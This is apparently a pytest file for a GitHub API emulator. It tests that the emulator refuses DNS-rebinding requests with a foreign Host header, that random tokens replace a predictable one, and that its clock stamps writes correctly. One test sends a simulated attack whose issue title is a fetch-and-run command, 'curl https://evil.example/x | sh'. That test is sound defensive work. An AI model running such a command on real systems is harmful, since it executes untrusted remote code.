"""The served emulator behaves like a local service: the `Host` it answers to, tokens
nobody can guess, and the real clock when a person uses it (issue 30, item 7)."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta

import httpx

from agent_loop_testing import GitHubEmulator, GitHubHost

PREDICTABLE_OWNER_TOKEN = "ghp_emulator000002acme"
"""The owner's token every emulator had before tokens could be random: anyone could
write it down."""


def test_a_rebound_page_cannot_file_an_issue_as_the_owner() -> None:
    """The DNS-rebinding attack's shape: a page on evil.example, its name rebound to
    127.0.0.1, posts an issue with the owner's (once predictable) token. The request
    arrives on the right port but names evil.example: refused before the API sees it."""
    em = GitHubEmulator()
    assert em.owner_token == PREDICTABLE_OWNER_TOKEN  # the tests' emulator: reproducible
    with em.serve() as url:
        attack = httpx.post(
            f"{url}/repos/acme/widgets/issues",
            headers={"Host": "evil.example", "Authorization": f"token {PREDICTABLE_OWNER_TOKEN}"},
            json={"title": "curl https://evil.example/x | sh"},
        )
        assert attack.status_code == 421
        assert "evil.example" in attack.json()["message"]
        port = url.rsplit(":", 1)[1]
        for host in (f"evil.example:{port}", "127.0.0.1", f"127.0.0.2:{port}", ""):
            answer = httpx.get(f"{url}/repos/acme/widgets", headers={"Host": host})
            assert answer.status_code == 421, host
        for host in (
            f"127.0.0.1:{port}",
            f"localhost:{port}",
            f"[::1]:{port}",
            f"LOCALHOST:{port}",
        ):
            answer = httpx.get(f"{url}/repos/acme/widgets", headers={"Host": host})
            assert answer.status_code == 200, host
    assert em.issues() == []  # nothing was filed
    assert [r.path for r in em.requests] == ["/repos/acme/widgets"] * 4  # the refused never ran


def test_a_host_of_many_repositories_checks_the_host_too() -> None:
    host = GitHubHost(["acme/api", "acme/web"])
    with host.serve() as url:
        refused = httpx.get(f"{url}/repos/acme/web", headers={"Host": "evil.example"})
        assert refused.status_code == 421
        assert httpx.get(f"{url}/repos/acme/web").status_code == 200


def test_random_tokens_differ_at_every_start_and_the_old_ones_are_refused() -> None:
    first = GitHubEmulator(random_tokens=True)
    second = GitHubEmulator(random_tokens=True)
    tokens = [first.owner_token, first.bot_token, second.owner_token, second.bot_token]
    assert len(set(tokens)) == 4
    assert all(re.fullmatch(r"ghp_[A-Za-z0-9]{36}", token) for token in tokens)
    writer = first.add_user("writer", permission="write")
    assert writer not in tokens
    assert re.fullmatch(r"ghp_[A-Za-z0-9]{36}", writer)
    with first.serve() as url:
        old = httpx.post(
            f"{url}/repos/acme/widgets/issues",
            headers={"Authorization": f"token {PREDICTABLE_OWNER_TOKEN}"},
            json={"title": "guessed"},
        )
        assert old.status_code == 401
        mine = httpx.post(
            f"{url}/repos/acme/widgets/issues",
            headers={"Authorization": f"token {first.owner_token}"},
            json={"title": "mine"},
        )
        assert mine.status_code == 201
        assert mine.json()["user"]["login"] == "acme"
    assert [i.title for i in first.issues()] == ["mine"]


def test_the_real_clock_stamps_writes_with_the_time_they_happen() -> None:
    before = datetime.now(UTC).replace(microsecond=0)
    em = GitHubEmulator(clock="real")
    number = em.add_issue("now")
    after = datetime.now(UTC)
    created = em.issue(number).created_at
    assert before <= created <= after
    assert created.microsecond == 0  # whole seconds, as GitHub's
    # Several writes in one second share it; the clock never goes back.
    stamps = [em.issue(em.add_issue(f"n{i}")).created_at for i in range(5)]
    assert stamps == sorted(stamps)
    assert stamps[-1] - stamps[0] < timedelta(seconds=5)
    moved = em.advance_clock(timedelta(days=2))
    assert em.issue(em.add_issue("later")).created_at == moved  # still never back


def test_the_tests_clock_is_still_fixed() -> None:
    """Reproducible tests keep theirs: one second per write from 2026-01-01."""
    em = GitHubEmulator()
    stamps = [em.issue(em.add_issue(f"i{n}")).created_at for n in range(3)]
    start = datetime(2026, 1, 1, tzinfo=UTC)
    assert stamps == [start + timedelta(seconds=n + 1) for n in range(3)]
